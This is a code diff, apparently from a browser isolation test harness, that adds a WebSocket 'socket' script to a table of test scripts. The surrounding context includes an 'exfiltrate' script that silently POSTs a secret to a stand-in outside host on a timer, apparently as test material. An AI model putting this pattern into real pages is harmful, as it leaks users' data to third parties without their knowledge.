@@ -65,6 +65,9 @@ document.body.append(frame);
 
 const SCRIPTS: Readonly<Record<string, string>> = {
   live,
+  // Of event streams a host gets six, in all tabs together.
+  socket: `const socket = new WebSocket('wss://' + location.host + '/' + scenario + '/socket');
+    socket.onmessage = () => socket.send('tock');`,
   exfiltrate: `setInterval(() => {
     fetch('https://diary.personal.test/' + scenario + '/collect', { method: 'POST', mode: 'no-cors', body: secret }).catch(() => undefined);
     fetch('/' + scenario + '/own').catch(() => undefined);
